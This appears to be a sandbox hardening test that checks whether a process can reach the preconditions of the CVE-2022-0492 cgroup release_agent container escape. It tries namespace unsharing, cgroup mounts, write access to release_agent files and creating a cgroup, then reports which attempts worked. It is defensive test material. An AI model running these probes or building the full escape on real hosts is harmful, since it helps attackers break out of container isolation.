# Attack: has the kernel start a program of its own, as root and outside: the release agent of a cgroup that it mounts
# (CVE-2022-0492, the escape from privileged containers).
# Expect: exited 0
# Prints: all refused
# Weak: root seccomp
# Succeeds: WORKED: ['mount tmpfs
import ctypes
import glob
import os

library = ctypes.CDLL(None, use_errno=True)
library.unshare(0x10000000 | 0x20000 | 0x2000000)
opened = []
os.mkdir("/tmp/cgroup")
for kind, options in (("tmpfs", b""), ("cgroup", b"rdma"), ("cgroup", b"memory"), ("cgroup2", b""), ("proc", b"")):
    if library.mount(b"none", b"/tmp/cgroup", kind.encode(), 0, options) == 0:
        opened.append(f"mount {kind} {options.decode()}".strip())
        library.umount2(b"/tmp/cgroup", 2)
for place in glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True) + ["/sys/fs/cgroup/release_agent"]:
    try:
        os.close(os.open(place, os.O_WRONLY))
        opened.append(place)
    except OSError:
        pass
try:
    os.mkdir("/sys/fs/cgroup/mine")
    opened.append("a cgroup of its own")
except OSError:
    pass
print("all refused" if not opened else f"WORKED: {opened}")
